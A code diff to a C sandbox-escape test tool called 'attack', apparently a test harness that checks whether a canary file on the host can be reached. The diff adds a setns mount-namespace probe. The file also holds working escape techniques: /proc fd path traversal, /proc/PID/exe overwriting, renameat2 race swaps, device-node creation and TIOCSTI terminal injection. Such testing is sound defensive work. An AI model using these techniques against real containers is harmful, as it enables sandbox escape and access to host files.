@@ -8,6 +8,7 @@
  *   attack mknod PATH MAJOR MINOR makes a device node and opens it
  *   attack fds                    what is open beside 0, 1, 2, and whether the cwd is in the root
  *   attack tiocsti                pushes a character into the terminal of fd 0
+ *   attack setns                  joins its own mount namespace, which leads to that one's real root
  *   attack capabilities           the inheritable and ambient sets
  */
 #define _GNU_SOURCE
@@ -16,6 +17,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
 #include <stdint.h>
@@ -50,7 +52,8 @@ static bool file_has(const char *path, const char *text)
     return length > 0 && memmem(data, (size_t)length, text, strlen(text));
 }
 
-/* ---- exec-stage ------------------------------------------------------------------------------------------ */
+/* ---- exec-stage ------------------------------------------------------------------------------------------
+ */
 
 static void look_at_fds(int pid)
 {
@@ -69,7 +72,8 @@ static void look_at_fds(int pid)
         snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
         if (readlink(path, target, sizeof target - 1) < 0)
             continue;
-        snprintf(path, sizeof path, "/proc/%d/fd/%s/../../../../../../../../canary/secret", pid, entry->d_name);
+        snprintf(path, sizeof path, "/proc/%d/fd/%s/../../../../../../../../canary/secret", pid,
+                 entry->d_name);
         if (file_has(path, "canary"))
             printf("fd %s (%s) leads to the host's files\n", entry->d_name, target);
         snprintf(path, sizeof path, "/proc/%d/fd/%s/1/root/canary/secret", pid, entry->d_name);
@@ -127,7 +131,8 @@ static int exec_stage(double seconds)
     return 0;
 }
 
-/* ---- proc-exe -------------------------------------------------------------------------------------------- */
+/* ---- proc-exe --------------------------------------------------------------------------------------------
+ */
 
 static void overwrite(int pid)
 {
@@ -180,7 +185,8 @@ static int proc_exe(double seconds)
     return 0;
 }
 
-/* ---- swap ------------------------------------------------------------------------------------------------ */
+/* ---- swap ------------------------------------------------------------------------------------------------
+ */
 
 static int swap(double seconds, const char *a, const char *b)
 {
@@ -189,14 +195,16 @@ static int swap(double seconds, const char *a, const char *b)
 
     while (now() < end)
         for (int i = 0; i < 1000; i++, count++)
-            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != ENOENT) {
+            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 &&
+                errno != ENOENT) {
                 perror("swap");
                 return 1;
             }
     return 0;
 }
 
-/* ---- the small ones --------------------------------------------------------------------------------------- */
+/* ---- the small ones ---------------------------------------------------------------------------------------
+ */
 
 static int make_node(const char *path, unsigned major_number, unsigned minor_number)
 {
@@ -237,6 +245,17 @@ static int leaked_fds(void)
     return 0;
 }
 
+static int join_own_namespace(void)
+{
+    int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
+
+    if (fd < 0 || setns(fd, CLONE_NEWNS) < 0)
+        printf("setns: %s\n", strerror(errno));
+    else
+        puts(file_has("/canary/secret", "canary") ? "the host's files" : "safe");
+    return 0;
+}
+
 static int push_character(void)
 {
     char character = 'x';
@@ -270,6 +289,8 @@ int main(int argc, char **argv)
         return make_node(argv[2], (unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]));
     if (strcmp(what, "fds") == 0)
         return leaked_fds();
+    if (strcmp(what, "setns") == 0)
+        return join_own_namespace();
     if (strcmp(what, "tiocsti") == 0)
         return push_character();
     if (strcmp(what, "capabilities") == 0)
